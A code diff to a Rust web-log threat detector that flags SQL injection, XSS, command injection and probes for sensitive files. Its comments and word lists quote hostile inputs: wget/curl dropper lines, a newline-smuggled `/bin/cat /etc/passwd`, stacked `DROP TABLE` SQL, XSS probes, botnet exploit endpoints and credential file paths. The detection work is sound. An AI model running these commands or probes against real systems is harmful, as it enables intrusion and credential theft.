@@ -19,7 +19,8 @@
 //!   check runs on text with an angle bracket or a quote. Additions for what
 //!   libinjection lets pass: a value that is only a quote after a word,
 //!   perhaps commenting out the rest (`1'`, `"`, `admin'#`) — the error
-//!   probe that opens every SQL injection scan; a `<script` anywhere; a
+//!   probe that opens every SQL injection scan; a statement stacked after
+//!   a value (`1;SELECT * FROM users`); a `<script` anywhere; a
 //!   value or path segment starting with a script URL (`javascript:`,
 //!   `data:text/html`); a quote that leaves a JavaScript string to call a
 //!   sink (`';alert(1);//`); AngularJS template injection (`{{constructor…`).
@@ -35,14 +36,21 @@
 //!   the right shape, and a `|`- or `;`-separated list of plain words is a
 //!   list, not a pipeline. Also Shellshock (`() {` at the start of a
 //!   parameter, the user agent or the referer) and Log4Shell lookups
-//!   (`${jndi:` and its obfuscations), which execute code on the server.
+//!   (`${jndi:` and its obfuscations), which execute code on the server,
+//!   and requests for endpoints that run the request body
+//!   (`/GponForm/diag_Form`, PHPUnit's `eval-stdin.php`).
 //! * **Scanner**: the user agent names a scanner
 //!   ([`super::client::ClientClass::Scanner`]).
 //! * **Sensitive file**: the path asks for secrets or internals: `/.env`,
 //!   `/.git/`, `wp-config.php`, `.htpasswd`, `id_rsa`, `/.aws/credentials`,
-//!   backups and dumps (`*.bak`, `*.sql`, `backup.zip`, `*~`), admin and
-//!   debug endpoints (`/phpmyadmin`, `/server-status`, `/actuator/env`,
-//!   `/debug/pprof`), `/etc/passwd`. Path only, case-insensitive.
+//!   configuration (`config.yml`, `php.ini`, `/Dockerfile`, and
+//!   `/config.json` unless a front end's asset), backups and dumps
+//!   (`*.bak`, `*.sql`, `backup.zip`, `*~`), admin and debug endpoints
+//!   (`/phpmyadmin`, `/server-status`, `/actuator/env`, `/debug/pprof`,
+//!   `/manager/html`, `/console`, `/__debug__/`), `/etc/passwd` — but not
+//!   a name whose slashes were sent encoded (`/wiki/%2Fetc%2Fpasswd` is a
+//!   page title). The path, case-insensitive, and one query switch
+//!   (`?phpinfo=1`).
 //!
 //! Text is percent-decoded before it is tested — twice when the first pass
 //! leaves `%XX` behind (double encoding) — with `%uXXXX` and the overlong
@@ -50,8 +58,10 @@
 //! them did. Decoding happens only when a `%` (or a `+` in the query) is
 //! present, into a stack buffer for anything under 512 bytes, so the common
 //! request costs one table lookup per byte of its path and query, a check
-//! of each path segment, and no allocation (a few hundred nanoseconds);
-//! libinjection adds 1–15 µs to the few requests that reach it.
+//! of each path segment, and no allocation: about 2,400 instructions a
+//! record on the rollup benchmark's traffic (callgrind, `classify_with_client`
+//! inclusive); libinjection brings a request that reaches it to 10–35
+//! thousand.
 //!
 //! Guarantees: never panics, whatever the bytes; every answer depends on
 //! the record alone. Detection and false-positive rates are measured by
@@ -220,12 +230,13 @@ pub fn classify_with_client(record: &Record<'_>, client: ClientClass) -> Threats
         header_executes_code(record.user_agent) || header_executes_code(record.referer),
         Threat::CommandInjection,
     );
-    let mut stack = [0; STACK_BYTES];
-    let mut scratch = Scratch {
-        stack: &mut stack,
-        heap: Vec::new(),
-    };
-    inspect_path(record.path.as_bytes(), &mut scratch, &mut found);
+    let mut scratch = Scratch::new();
+    inspect_path(
+        record.path.as_bytes(),
+        has_referer(record.referer),
+        &mut scratch,
+        &mut found,
+    );
     inspect_query(record.query.as_bytes(), &mut scratch, &mut found);
     found
 }
@@ -233,10 +244,17 @@ pub fn classify_with_client(record: &Record<'_>, client: ClientClass) -> Threats
 // ---------------------------------------------------------------------------
 // Where to look: the path, each query parameter, two headers.
 
-fn inspect_path(raw: &[u8], scratch: &mut Scratch<'_>, found: &mut Threats) {
+fn inspect_path(raw: &[u8], referer: bool, scratch: &mut Scratch, found: &mut Threats) {
+    let last_segment = &raw[memchr::memrchr(b'/', raw).map_or(0, |i| i + 1)..];
+    found.insert_if(
+        EXPLOIT_ENDPOINTS.contains(last_segment),
+        Threat::CommandInjection,
+    );
     let (path, marks) = scratch.decode(raw, false);
     found.insert_if(
-        is_sensitive_path(path) && !in_repository_viewer(path),
+        (is_sensitive_path(path) && !in_repository_viewer(path) && !names_a_page(raw))
+            || is_root_console(path)
+            || (!referer && is_server_json_config(path)),
         Threat::SensitiveFile,
     );
     if marks.is_plain() {
@@ -254,7 +272,9 @@ fn inspect_path(raw: &[u8], scratch: &mut Scratch<'_>, found: &mut Threats) {
     }
     found.insert_if(command_injection(path, marks), Threat::CommandInjection);
     found.insert_if(
-        xss(path, marks) || path.split(|&b| b == b'/').any(|s| xss_url(s, Marks::of(s))),
+        xss(path, marks)
+            || (marks.any(COLON | AMP)
+                && path.split(|&b| b == b'/').any(|s| xss_url(s, Marks::of(s)))),
         Threat::Xss,
     );
     if let Some(start) = injection_start(path, marks) {
@@ -269,17 +289,24 @@ fn inspect_path(raw: &[u8], scratch: &mut Scratch<'_>, found: &mut Threats) {
     }
 }
 
-fn inspect_query(raw: &[u8], scratch: &mut Scratch<'_>, found: &mut Threats) {
+fn inspect_query(raw: &[u8], scratch: &mut Scratch, found: &mut Threats) {
     for param in raw.split(|&b| b == b'&').filter(|p| !p.is_empty()) {
         let (raw_name, raw_value) = match memchr::memchr(b'=', param) {
             Some(eq) => (&param[..eq], &param[eq + 1..]),
             None => (param, &param[..0]),
         };
+        // `?phpinfo=1`: scripts left with a switch that prints PHP's
+        // configuration.
+        found.insert_if(
+            raw_name.eq_ignore_ascii_case(b"phpinfo"),
+            Threat::SensitiveFile,
+        );
         let (value, marks) = scratch.decode(raw_value, true);
         found.insert_if(
             is_shell_parameter(raw_name, value) || names_php_exec(value),
             Threat::CommandInjection,
         );
+        found.insert_if(is_code_as_callback(raw_name, value, marks), Threat::Xss);
         *found |= inspect_value(value, marks, Field::Value);
         let (name, marks) = scratch.decode(raw_name, true);
         if marks.any(NOTABLE & !(DOT | COLON | SLASH)) {
@@ -290,6 +317,24 @@ fn inspect_query(raw: &[u8], scratch: &mut Scratch<'_>, found: &mut Threats) {
             *found |= inspect_value(whole, marks, Field::Name);
         }
     }
+}
+
+/// Parameters that name a JSONP callback: the server writes the value
+/// into a script as the function to call.
+static CALLBACK_PARAMETERS: WordSet = WordSet::new(&["jsonp", "callback", "jsoncallback"]);
+
+/// A JSONP callback that is code, not a function's name
+/// (`callback=alert(1)//`): a callback is an identifier or a path of them
+/// (`jQuery3510_17000`, `angular.callbacks._0`, `cbs[2]`), so a call, a
+/// statement or a string in it runs in the page's origin. Slashes and
+/// `=` are left alone: `callback` is also where OAuth and login flows put
+/// the URL to return to.
+fn is_code_as_callback(name: &[u8], value: &[u8], marks: Marks) -> bool {
+    marks.any(PAREN | SEMI | QUOTE | ANGLE)
+        && CALLBACK_PARAMETERS.contains(name)
+        && value
+            .iter()
+            .any(|b| matches!(b, b'(' | b')' | b';' | b'\'' | b'"' | b'<'))
 }
 
 /// Which part of a parameter a text is.
@@ -350,12 +395,20 @@ const DECODE_PASSES: usize = 3;
 
 /// Where decoded text lives while it is tested: one per request, reused
 /// for the path and each parameter in turn.
-struct Scratch<'s> {
-    stack: &'s mut [u8; STACK_BYTES],
+struct Scratch {
+    /// Zeroed on first use: most requests have nothing to decode.
+    stack: Option<[u8; STACK_BYTES]>,
     heap: Vec<u8>,
 }
 
-impl Scratch<'_> {
+impl Scratch {
+    const fn new() -> Scratch {
+        Scratch {
+            stack: None,
+            heap: Vec::new(),
+        }
+    }
+
     /// `raw` percent-decoded (and `+` as a space if `plus_is_space`) — or
     /// `raw` itself when there is nothing to decode — and its marks.
     fn decode<'a>(&'a mut self, raw: &'a [u8], plus_is_space: bool) -> (&'a [u8], Marks) {
@@ -365,27 +418,33 @@ impl Scratch<'_> {
         }
         // Decoding never lengthens text, so `raw.len()` bytes suffice.
         let buf = if raw.len() <= STACK_BYTES {
-            &mut self.stack[..raw.len()]
+            &mut self.stack.get_or_insert([0; STACK_BYTES])[..raw.len()]
         } else {
             self.heap.clear();
             self.heap.resize(raw.len(), 0);
             &mut self.heap[..]
         };
         buf.copy_from_slice(raw);
-        let mut len = percent_decode_in_place(buf, plus_is_space);
-        // Double and triple encoding (`%252e` → `%2e` → `.`) hide payloads
-        // from single-decoding filters; more passes show them, up to a bound
-        // so that a long chain of `%25` costs a fixed amount of work.
-        for _ in 1..DECODE_PASSES {
-            if !has_escape(&buf[..len]) {
-                break;
-            }
-            len = percent_decode_in_place(&mut buf[..len], false);
-        }
-        len = fold_lookalikes_in_place(&mut buf[..len]);
+        let len = decode_in_place(buf, plus_is_space);
         let decoded = &buf[..len];
         (decoded, Marks::of(decoded))
     }
+}
+
+/// Decodes `buf` in place as [`Scratch::decode`] does; returns the new
+/// length.
+fn decode_in_place(buf: &mut [u8], plus_is_space: bool) -> usize {
+    let mut len = percent_decode_in_place(buf, plus_is_space);
+    // Double and triple encoding (`%252e` → `%2e` → `.`) hide payloads
+    // from single-decoding filters; more passes show them, up to a bound
+    // so that a long chain of `%25` costs a fixed amount of work.
+    for _ in 1..DECODE_PASSES {
+        if !has_escape(&buf[..len]) {
+            break;
+        }
+        len = percent_decode_in_place(&mut buf[..len], false);
+    }
+    fold_lookalikes_in_place(&mut buf[..len])
 }
 
 /// Decodes `%XX` and `%uXXXX` (as IIS does) in place; returns the new
@@ -594,17 +653,160 @@ fn libinjection_sqli(text: &[u8]) -> bool {
 ///   that only injections use: `union [all|distinct] select`, a
 ///   time-delay call (`sleep(5)`, `pg_sleep(5)`, `benchmark(…)`, `waitfor
 ///   delay`), `procedure analyse`, a tautology on a boolean literal (`1 or
-///   true`), and a quote broken out of into a logic operator with the rest
-///   commented away (`1' AND f(…)-- x`).
+///   true`), a quote broken out of into a logic operator with the rest
+///   commented away (`1' AND f(…)-- x`), and a statement stacked after
+///   the value (`1;SELECT * FROM users`);
+/// * a value that opens with a call and goes on in words (`sleep(5) vs
+///   time.sleep`) is a search about the function.
 fn sql_injection(text: &[u8]) -> bool {
     let words = SqlWords::of(text);
-    if words.is_plain_statement(text) {
+    if words.is_plain_statement(text) || is_question_about_call(text) {
         return false;
     }
     if libinjection_sqli(text) {
         return words.strong || opens_as_injection(text);
     }
-    words.grammar || breaks_out_of_quote(text)
+    words.grammar || breaks_out_of_quote(text) || stacks_statement(text)
+}
+
+/// `sleep(5) vs time.sleep`, `sleep(5) in python`: a call of a function
+/// with plain arguments opening the text, then words — someone asking
+/// about the function. An injection that opens with a call ends there
+/// (`sleep(5)`), comments the rest away (`sleep(5)#`) or goes on in SQL
+/// (`sleep(5) and 1=1`, `sleep(5))a`).
+fn is_question_about_call(text: &[u8]) -> bool {
+    let text = text.trim_ascii();
+    let name = text
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+        .count();
+    if name == 0 || !text[0].is_ascii_alphabetic() {
+        return false;
+    }
+    let Some(call) = text[name..].trim_ascii_start().strip_prefix(b"(") else {
+        return false;
+    };
+    let Some(close) = memchr::memchr(b')', call) else {
+        return false;
+    };
+    let (arguments, rest) = (&call[..close], &call[close + 1..]);
+    let first_word = rest.trim_ascii_start();
+    let first_word = &first_word[..first_word
+        .iter()
+        .take_while(|b| b.is_ascii_alphabetic())
+        .count()];
+    arguments
+        .iter()
+        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b' ' | b',' | b'.' | b'_'))
+        && rest.first().is_some_and(u8::is_ascii_whitespace)
+        && !first_word.is_empty()
+        && rest
+            .iter()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b' ' | b'.' | b'_' | b'?' | b','))
+        && ![
+            "and",
+            "or",
+            "xor",
+            "not",
+            "div",
+            "like",
+            "rlike",
+            "regexp",
+            "union",
+            "from",
+            "into",
+            "limit",
+            "order",
+            "group",
+            "having",
+            "procedure",
+        ]
+        .iter()
+        .any(|op| first_word.eq_ignore_ascii_case(op.as_bytes()))
+}
+
+/// `1;SELECT * FROM users`, `x');DROP TABLE users--`: a statement
+/// stacked after `;` behind the value it ends. The value is one token (a
+/// sentence has spaces: `step 1; select a size from the list` is prose),
+/// and the statement comes with its grammar: `select … from`, `insert
+/// into`, `delete from`, `update … set`, `drop`/`truncate`/`create`/
+/// `alter` and what they act on, `exec` and a procedure, `declare @`,
+/// `shutdown`. Comments stand for spaces (`;SELECT/**/*/**/FROM`).
+fn stacks_statement(text: &[u8]) -> bool {
+    memchr::memchr_iter(b';', text).any(|semi| {
+        if text[..semi]
+            .trim_ascii()
+            .iter()
+            .any(u8::is_ascii_whitespace)
+        {
+            return false;
+        }
+        let (keyword, rest) = sql_word(&text[semi + 1..]);
+        let (next, _) = sql_word(rest);
+        let is = |w: &[u8], expected: &str| w.eq_ignore_ascii_case(expected.as_bytes());
+        let later = |expected: &str| {
+            rest.split(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
+                .any(|w| is(w, expected))
+        };
+        let objects = [
+            "user",
+            "view",
+            "index",
+            "login",
+            "table",
+            "schema",
+            "trigger",
+            "database",
+            "function",
+            "procedure",
+        ];
+        let one_of = |words: &[&str]| words.iter().any(|w| is(keyword, w));
+        if is(keyword, "select") {
+            later("from") || rest.contains(&b'(') || rest.starts_with(b"@@")
+        } else if is(keyword, "insert") {
+            is(next, "into")
+        } else if is(keyword, "delete") {
+            later("from")
+        } else if is(keyword, "update") {
+            later("set")
+        } else if one_of(&["drop", "truncate", "create", "alter"]) {
+            objects.iter().any(|o| is(next, o))
+        } else if one_of(&["exec", "execute"]) {
+            !next.is_empty()
+        } else if is(keyword, "declare") {
+            rest.trim_ascii_start().starts_with(b"@")
+        } else if is(keyword, "shutdown") {
+            let rest = rest.trim_ascii_start();
+            rest.is_empty()
+                || [&b"--"[..], b"#", b"/*", b";"]
+                    .iter()
+                    .any(|c| rest.starts_with(c))
+        } else {
+            false
+        }
+    })
+}
+
+/// The SQL word `text` starts with, after spaces and `/* … */` comments,
+/// and what follows it (from right after the word).
+fn sql_word(text: &[u8]) -> (&[u8], &[u8]) {
+    let mut text = text;
+    loop {
+        text = text.trim_ascii_start();
+        match text.strip_prefix(b"/*") {
+            Some(comment) => match find_pair(comment, b'*', b'/') {
+                Some(end) => text = &comment[end + 2..],
+                None => return (b"", b""),
+            },
+            None => break,
+        }
+    }
+    let len = text
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
+        .count();
+    let rest = &text[len..];
+    (&text[..len], rest)
 }
 
 /// What the words of a text say about it as SQL.
@@ -1098,6 +1300,9 @@ fn xss(text: &[u8], marks: Marks) -> bool {
     if is_xss(text, marks) {
         return true;
     }
+    if !marks.any(AMP) {
+        return false;
+    }
     let mut buf = [0u8; ENTITY_VIEW_BYTES];
     match html_unescape(text, &mut buf) {
         Some(view) => {
@@ -1113,6 +1318,9 @@ fn xss(text: &[u8], marks: Marks) -> bool {
 fn xss_url(text: &[u8], marks: Marks) -> bool {
     if has_script_url(text, marks) {
         return true;
+    }
+    if !marks.any(AMP) {
+        return false;
     }
     let mut buf = [0u8; ENTITY_VIEW_BYTES];
     html_unescape(text, &mut buf).is_some_and(|view| has_script_url(view, Marks::of(view)))
@@ -1334,15 +1542,22 @@ fn opens_with_command(text: &[u8]) -> bool {
 }
 
 /// Whether `text`, a command line, downloads a program and runs it
-/// (`cd /tmp; wget http://…/x; chmod 777 x; ./x`, `curl … | sh`): what
-/// botnets inject into routers and cameras, never a question about the shell.
+/// (`cd /tmp; wget http://…/x; chmod 777 x; ./x`, `curl … | sh`, `wget
+/// http://…/x.sh; sh x.sh`): what botnets inject into routers and
+/// cameras, never a question about the shell.
 fn is_dropper(text: &[u8]) -> bool {
     ["wget ", "curl ", "tftp "]
         .iter()
         .any(|fetch| contains_ignore_case(text, fetch.as_bytes()))
-        && ["chmod ", "| sh", "|sh", "| bash", "|bash"]
-            .iter()
-            .any(|run| contains_ignore_case(text, run.as_bytes()))
+        && (contains_ignore_case(text, b"chmod ")
+            || memchr::memchr3_iter(b';', b'|', b'&', text).any(|separator| {
+                let run = skip_shell_space(&text[separator + 1..]);
+                run.starts_with(b"./")
+                    || ["sh", "bash"].iter().any(|shell| {
+                        starts_with_ignore_case(run, shell.as_bytes())
+                            && run.get(shell.len()).is_none_or(|b| b.is_ascii_whitespace())
+                    })
+            }))
 }
 
 /// Whether `text` is Java code execution in an expression language (OGNL
@@ -1363,9 +1578,12 @@ fn is_java_exec(text: &[u8]) -> bool {
 /// Whether `text` reads as words in a sentence: several words and no
 /// shell separator (`;`, `|`, `&`, a newline, a backtick, `$`).
 fn is_prose(text: &[u8]) -> bool {
-    let text = text.trim_ascii();
-    text.contains(&b' ')
+    // A newline that opens the text is a separator too (`%0a/bin/cat
+    // /etc/passwd` runs a command); one that ends it is how a text area
+    // ends.
+    text.trim_ascii().contains(&b' ')
         && !text
+            .trim_ascii_end()
             .iter()
             .any(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))
 }
@@ -1820,6 +2038,100 @@ fn in_repository_viewer(path: &[u8]) -> bool {
     matches!(view, b"blob" | b"tree" | b"blame" | b"src") && segments.nth(1).is_some()
 }
 
+/// Whether the sensitive look of `raw`, a path as sent, comes only from
+/// slashes sent percent-encoded (`/wiki/%2Fetc%2Fpasswd`): an encoded
+/// slash is data inside one segment (RFC 3986) — a page title, an
+/// identifier — not a directory, so that segment names a page, not a
+/// system file. Climbs (`..%2f..%2fetc%2fpasswd`) are judged apart. Only
+/// called on paths already found sensitive, so the second decoding is off
+/// the hot path.
+fn names_a_page(raw: &[u8]) -> bool {
+    let encoded_slash = |i: usize| {
+        matches!(
+            raw.get(i + 1..i + 3),
+            Some([b'2', b'f' | b'F'] | [b'5', b'c' | b'C'])
+        )
+    };
+    if !memchr::memchr_iter(b'%', raw).any(encoded_slash) {
+        return false;
+    }
+    let mut stack = [0u8; STACK_BYTES];
+    let Some(buf) = stack.get_mut(..raw.len()) else {
+        return false;
+    };
+    buf.copy_from_slice(raw);
+    // Each encoded slash becomes DEL, which no rule reads as a separator.
+    for i in memchr::memchr_iter(b'%', raw).filter(|&i| encoded_slash(i)) {
+        buf[i + 1..i + 3].copy_from_slice(b"7F");
+    }
+    let len = decode_in_place(buf, false);
+    !is_sensitive_path(&buf[..len])
+}
+
+/// Whether the request names its referring page: what a page's own
+/// scripts and assets carry, and probes do not.
+fn has_referer(referer: &str) -> bool {
+    !referer.is_empty() && referer != "-"
+}
+
+/// Names of JSON files that hold an application's configuration: the
+/// word before `.json` (`config.json`, `app.config.json`), or the whole
+/// stem (Azure Functions' `local.settings.json`). `settings.json` alone is
+/// left out: Rails-style APIs serve a `settings` resource as
+/// `/settings.json`.
+static JSON_CONFIG_STEMS: WordSet = WordSet::new(&["config", "configuration", "local.settings"]);
+
+/// Directories where sites serve configuration to their own clients: a
+/// front end's assets, and APIs.
+static CLIENT_DIRECTORIES: WordSet = WordSet::new(&[
+    "js", "api", "_next", "_nuxt", "build", "assets", "static", "bundles", "scripts",
+]);
+
+/// `/config.json`, `/wp/config.json`, `/local.settings.json`: an
+/// application's configuration in JSON, which scanners ask every site for.
+/// A single-page app may load its own runtime configuration under such a
+/// name, and an API may serve it to its clients, so it counts neither
+/// under a front-end asset directory or an API (`/assets/config.json`,
+/// `/static/…`, `/api/…`) nor when a page asked for it (the caller checks
+/// for a referer): a probe comes from nowhere.
+fn is_server_json_config(path: &[u8]) -> bool {
+    let slash = memchr::memrchr(b'/', path).unwrap_or(0);
+    let name = &path[(slash + 1).min(path.len())..];
+    if !ends_with_ignore_case(name, b".json") {
+        return false;
+    }
+    let stem = &name[..name.len() - 5];
+    let last_word = &stem[memchr::memrchr(b'.', stem).map_or(0, |dot| dot + 1)..];
+    (JSON_CONFIG_STEMS.contains(last_word) || JSON_CONFIG_STEMS.contains(stem))
+        && !path[..slash]
+            .split(|&b| b == b'/')
+            .any(|directory| CLIENT_DIRECTORIES.contains(directory))
+}
+
+/// Endpoints that run what the request body carries: those of routers
+/// and cameras that hand a parameter to a shell (GPON's
+/// `/GponForm/diag_Form`, Netlink's `/boaform/admin/formPing`, Huawei
+/// HG532's `/ctrlt/DeviceUpgrade_1`, Realtek's UPnP `/picsdesc.xml`,
+/// Linksys' `/tmUnblock.cgi`), which Mirai-family botnets post their
+/// droppers to, and the PHP code runners left in web applications
+/// (PHPUnit's `eval-stdin.php`, Laravel Ignition's
+/// `/_ignition/execute-solution`). The command travels in the body, which
+/// the log does not have; no site serves these names to its visitors, so
+/// the request for one is the exploit.
+static EXPLOIT_ENDPOINTS: WordSet = WordSet::new(&[
+    "formping",
+    "diag_form",
+    "picsdesc.xml",
+    "tmunblock.cgi",
+    "eval-stdin.php",
+    "deviceupgrade_1",
+    "execute-solution",
+]);
+
+/// Build recipes of a source tree, by their whole name: a site that
+/// serves one serves its repository.
+static REPOSITORY_FILES: WordSet = WordSet::new(&["dockerfile", "jenkinsfile", "vagrantfile"]);
+
 /// Whether a (decoded) path asks for a secret, VCS metadata, a backup or
 /// dump, or an admin or debug endpoint.
 fn is_sensitive_path(path: &[u8]) -> bool {
@@ -1836,13 +2148,28 @@ fn is_sensitive_path(path: &[u8]) -> bool {
         let last = segments.peek().is_none();
         if is_sensitive_name(segment)
             || is_sensitive_pair(previous, segment)
-            || (last && is_backup_name(segment))
+            || (last && (is_backup_name(segment) || REPOSITORY_FILES.contains(segment)))
         {
             return true;
         }
         previous = segment;
     }
     false
+}
+
+/// `/console`, `/console/`, `/console/login/…`: the admin console that
+/// WebLogic, Werkzeug's debugger and others put at the root of a site. A
+/// console deeper in a site (a build's log page, a shop's category) is an
+/// ordinary page, and so is `/console` as a parameter's value (where to
+/// go after signing in): only a request path is checked.
+fn is_root_console(path: &[u8]) -> bool {
+    match path.get(..8) {
+        Some(start) if start.eq_ignore_ascii_case(b"/console") => {
+            let rest = &path[8..];
+            rest.is_empty() || rest == b"/" || starts_with_ignore_case(rest, b"/login")
+        }
+        _ => false,
+    }
 }
 
 /// Files and directories that are secrets or internals wherever they are.
@@ -1869,6 +2196,7 @@ static SENSITIVE_NAMES: WordSet = WordSet::new(&[
     "jolokia",
     "myadmin",
     "web-inf",
+    "heapdump",
     "id_ecdsa",
     "info.php",
     "meta-inf",
@@ -1877,6 +2205,7 @@ static SENSITIVE_NAMES: WordSet = WordSet::new(&[
     ".htdigest",
     ".htpasswd",
     ".user.ini",
+    "__debug__",
     "_profiler",
     "debug.log",
     "elmah.axd",
@@ -1886,12 +2215,15 @@ static SENSITIVE_NAMES: WordSet = WordSet::new(&[
     ".dockercfg",
     ".dockerenv",
     ".ftpconfig",
+    "h2-console",
     "id_ed25519",
     "master.key",
     "mysqladmin",
+    "threaddump",
     "web.config",
     "ws_ftp.ini",
     ".travis.yml",
+    "_wpeprivate",
     "adminer.php",
     "jmx-console",
     "known_hosts",
@@ -1902,6 +2234,7 @@ static SENSITIVE_NAMES: WordSet = WordSet::new(&[
     "web-console",
     ".zsh_history",
     "database.yml",
+    "nginx_status",
     "secrets.json",
     ".bash_history",
     ".psql_history",
@@ -1950,12 +2283,24 @@ fn is_sensitive_name(segment: &[u8]) -> bool {
             b'p' => {
                 starts(b"phpmyadmin")
                     || (starts(b"pma") && segment[3..].iter().all(u8::is_ascii_digit))
-                    || starts(b"phpinfo")
+                    || is_phpinfo(segment)
             }
             // `adminer-4.8.1.php`.
             b'a' => starts(b"adminer"),
             _ => false,
         }
+}
+
+/// `phpinfo`, `phpinfo.php`, `phpinfo2.php`, `phpinfo_test.php5`: a script
+/// that prints PHP's configuration, by a file's name. A page's slug
+/// (`phpinfo-explained`, words joined by `-`, no extension) is writing
+/// about it.
+fn is_phpinfo(segment: &[u8]) -> bool {
+    let Some(rest) = segment.get(7..) else {
+        return false;
+    };
+    segment[..7].eq_ignore_ascii_case(b"phpinfo")
+        && (rest.iter().all(u8::is_ascii_digit) || rest.contains(&b'.'))
 }
 
 /// Dot-directories that exist to be fetched: RFC 8615's `.well-known`,
@@ -1977,6 +2322,9 @@ static CONFIG_EXTENSIONS: WordSet = WordSet::new(&[
     "yaml",
     "properties",
 ]);
+
+/// Extensions of files that are configuration by their format alone.
+static CONFIG_FORMAT_EXTENSIONS: WordSet = WordSet::new(&["cnf", "ini", "conf"]);
 
 /// Names of files that hold credentials whatever their format.
 static SECRET_STEMS: WordSet = WordSet::new(&[
@@ -2012,13 +2360,16 @@ static CONFIG_STEMS: WordSet = WordSet::new(&[
 /// count with configuration formats; secret stems with any (`json` and
 /// `xml` too). `config.js` is front-end code, `app.php` a front controller.
 fn is_config_file(name: &[u8]) -> bool {
-    let Some(dot) = memchr::memchr(b'.', name) else {
+    // Segments are short: a plain loop beats a call to memchr.
+    let Some(dot) = name.iter().position(|&b| b == b'.') else {
         return false;
     };
     let stem = &name[..dot];
     let extension = &name[memchr::memrchr(b'.', name).unwrap_or(dot) + 1..];
     let inner = name[dot + 1..].split(|&b| b == b'.').next().unwrap_or(b"");
-    if SECRET_STEMS.contains(stem) {
+    // `php.ini`, `my.cnf`, `nginx.conf`: formats that hold nothing but
+    // configuration, whatever the name.
+    if SECRET_STEMS.contains(stem) || CONFIG_FORMAT_EXTENSIONS.contains(extension) {
         return true;
     }
     CONFIG_STEMS.contains(stem)
@@ -2047,6 +2398,22 @@ static ACTUATOR_ENDPOINTS: WordSet = WordSet::new(&[
     "configprops",
 ]);
 
+/// The parents [`is_sensitive_pair`] knows: one lookup turns the rest away.
+static SENSITIVE_PARENTS: WordSet = WordSet::new(&[
+    "etc",
+    "proc",
+    "debug",
+    "manage",
+    "system",
+    "manager",
+    "actuator",
+    "management",
+    "host-manager",
+]);
+
+/// The pages of Tomcat's manager and host manager.
+static TOMCAT_MANAGER_PAGES: WordSet = WordSet::new(&["html", "text", "status", "jmxproxy"]);
+
 /// Files under `/etc` worth stealing (and Magento's `app/etc` secrets).
 static ETC_FILES: WordSet = WordSet::new(&[
     "group",
@@ -2058,15 +2425,24 @@ static ETC_FILES: WordSet = WordSet::new(&[
 ]);
 
 /// Endpoints that are only sensitive under a given parent: actuators
-/// (`/actuator/env`), Go's profiler (`/debug/pprof`), `/etc/passwd`,
-/// `/proc/self`.
+/// (`/actuator/env`), Go's profiler (`/debug/pprof`), Tomcat's manager
+/// (`/manager/html`), `/etc/passwd`, `/proc/self`.
 fn is_sensitive_pair(parent: &[u8], name: &[u8]) -> bool {
+    if !SENSITIVE_PARENTS.contains(parent) {
+        return false;
+    }
     let is = |s: &[u8], expected: &[u8]| s.eq_ignore_ascii_case(expected);
     if is(parent, b"actuator") || is(parent, b"manage") || is(parent, b"management") {
         ACTUATOR_ENDPOINTS.contains(name)
     } else if is(parent, b"debug") {
-        // Go's profiler and expvar.
-        is(name, b"pprof") || is(name, b"vars")
+        // Go's profiler and expvar; Yii's debug module (`/debug/default/view`).
+        is(name, b"pprof") || is(name, b"vars") || is(name, b"default")
+    } else if is(parent, b"manager") || is(parent, b"host-manager") {
+        // Tomcat's manager: deploys code.
+        TOMCAT_MANAGER_PAGES.contains(name)
+    } else if is(parent, b"system") {
+        // Apache Felix's web console (AEM, Sling).
+        is(name, b"console")
     } else if is(parent, b"etc") {
         ETC_FILES.contains(name)
     } else {
@@ -2077,8 +2453,8 @@ fn is_sensitive_pair(parent: &[u8], name: &[u8]) -> bool {
 /// Extensions of backups, swap and temporary files, database dumps and
 /// files, logs, private keys and keystores, and infrastructure state.
 static BACKUP_EXTENSIONS: WordSet = WordSet::new(&[
-    "db", "bak", "bkp", "jks", "key", "log", "mdb", "old", "p12", "pem", "pfx", "ppk", "sql",
-    "swn", "swo", "swp", "tmp", "dump", "kdbx", "orig", "ovpn", "save", "backup", "sqlite",
+    "db", "bak", "bkp", "jks", "key", "log", "mdb", "old", "p12", "pem", "pfx", "ppk", "rdb",
+    "sql", "swn", "swo", "swp", "tmp", "dump", "kdbx", "orig", "ovpn", "save", "backup", "sqlite",
     "tfvars", "sqlite3", "tfstate", "keystore",
 ]);
 
@@ -2199,34 +2575,46 @@ fn with_lowercase<R>(word: &[u8], f: impl FnOnce(&[u8]) -> R) -> Option<R> {
 
 /// A set of short lower-case words, looked up ignoring ASCII case. The
 /// words are sorted by length, then bytes ([`by_length`]), for a binary
-/// search; a bitmap of the lengths each first byte has turns most lookups
-/// away before any comparison.
+/// search; bitmaps of the lengths each first and each last byte has turn
+/// most lookups away before any comparison (the detector looks up every
+/// path segment, and nearly none is in any set).
 struct WordSet {
     words: &'static [&'static str],
     /// Bit `n` of entry `b`: some word of `n` bytes starts with byte `b`.
-    lengths: [u32; 128],
+    starts: [u32; 128],
+    /// Bit `n` of entry `b`: some word of `n` bytes ends with byte `b`.
+    ends: [u32; 128],
 }
 
 impl WordSet {
     const fn new(words: &'static [&'static str]) -> WordSet {
-        let mut lengths = [0u32; 128];
+        let mut starts = [0u32; 128];
+        let mut ends = [0u32; 128];
         let mut i = 0;
         while i < words.len() {
             let word = words[i].as_bytes();
-            assert!(!word.is_empty() && word.len() < 32 && word[0] < 128);
-            lengths[word[0] as usize] |= 1 << word.len();
+            let last = word.len().saturating_sub(1);
+            assert!(!word.is_empty() && word.len() < 32 && word[0] < 128 && word[last] < 128);
+            starts[word[0] as usize] |= 1 << word.len();
+            ends[word[last] as usize] |= 1 << word.len();
             i += 1;
         }
-        WordSet { words, lengths }
+        WordSet {
+            words,
+            starts,
+            ends,
+        }
     }
 
     fn contains(&self, word: &[u8]) -> bool {
-        let Some(first) = word.first().map(u8::to_ascii_lowercase) else {
+        let (Some(first), Some(last)) = (word.first(), word.last()) else {
             return false;
         };
+        let (first, last) = (first.to_ascii_lowercase(), last.to_ascii_lowercase());
         word.len() < 32
             && first < 128
-            && self.lengths[first as usize] & (1 << word.len()) != 0
+            && last < 128
+            && self.starts[first as usize] & self.ends[last as usize] & (1 << word.len()) != 0
             && self
                 .words
                 .binary_search_by(|k| by_length_ignoring_case(k.as_bytes(), word))
